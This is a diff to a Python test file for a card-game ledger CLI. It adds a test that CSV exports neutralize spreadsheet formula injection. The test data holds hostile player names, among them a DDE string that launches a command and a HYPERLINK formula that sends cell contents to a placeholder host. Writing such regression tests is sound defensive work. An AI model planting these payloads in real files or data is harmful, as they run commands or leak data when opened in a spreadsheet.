@@ -6,7 +6,8 @@ a user types:
 - a JSON object that gives a key twice refused wherever JSON comes in;
 - every cup option checked as given, and a cup that no one played worth
   nothing;
-- a name one player in any case and Unicode form.
+- a name one player in any case and Unicode form;
+- every CSV cell that a spreadsheet would run as a formula neutralized.
 
 A refusal is one line on stderr, exit status 1, no traceback, no
 "unexpected ..." and the ledger as it was: the process's own guard says it,
@@ -14,7 +15,10 @@ so the refusals run as processes of their own (``run_cli``)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import sqlite3
 from pathlib import Path
 
@@ -258,3 +262,41 @@ def test_merge_takes_a_name_in_another_case_for_the_same_player(tmp_path):
     ok(ours, "merge", str(theirs))
     assert players(ours) == ["Anna", "Berti", "Carl", "Dora"]
     assert json.loads(ok(ours, "stats", "--json"))["players"]["Anna"]["evenings"] == 2
+
+
+# 18. CSV a spreadsheet would run -------------------------------------------------------------
+
+HOSTILE = ("=cmd|' /C calc'!A0", "+Berti", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def _runs_as_formula(c: str) -> bool:
+    return c.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
+        r"[+-]?[0-9]+(\.[0-9]+|/[0-9]+)?|-", c
+    )
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    db = tmp_path / "ledger.db"
+    ok(db, "evening", "start", "--", *HOSTILE)
+    for i, name in enumerate(HOSTILE):
+        ok(db, "hand", "add", "--json", json.dumps(dreier(name, 30 + 10 * i)))
+    hyperlink = 'Anna@=HYPERLINK("http://x.example/?"&A1)'
+    ok(db, "cup", "start", "Cup", "--seed", "1", "--", hyperlink, "-Berti@+Linz", *"CDEFGH")
+    table = json.loads(ok(db, "cup", "draw", "--json"))["tables"][0]
+    ok(db, "hand", "add", "--evening", str(table["evening"]), "--json", json.dumps(dreier(table["players"][1], 40)))
+    outputs = [ok(db, "sheet", "--csv", "--evening", "1"), ok(db, "cup", "standings", "--csv")]
+    outputs += [ok(db, "stats", "--csv", "--table", t) for t in ("leaderboard", "players", "partners", "opponents")]
+    outputs += [ok(db, "export", "--format", "csv", "--what", w) for w in ("hands", "items", "payments")]
+    outputs.append(ok(db, "cup", "season", "--csv"))
+    cells = [c for text in outputs for c in _cells(text)]
+    assert not [c for c in cells if _runs_as_formula(c)]
+    for name in (*HOSTILE, '=HYPERLINK("http://x.example/?"&A1)', "+Linz", "-Berti"):
+        assert "'" + name in cells, name
+    points = [r["points"] for r in csv.DictReader(io.StringIO(outputs[2]))]  # figures stay numbers
+    assert points[0] == "+12" and points[-1] == "-24" and all(re.fullmatch(r"[+-][0-9]+|0", p) for p in points)
+    payments = list(csv.DictReader(io.StringIO(outputs[-2])))
+    assert {r["points"] for r in payments} >= {"-4", "12"} and "'-4" not in {r["points_exact"] for r in payments}
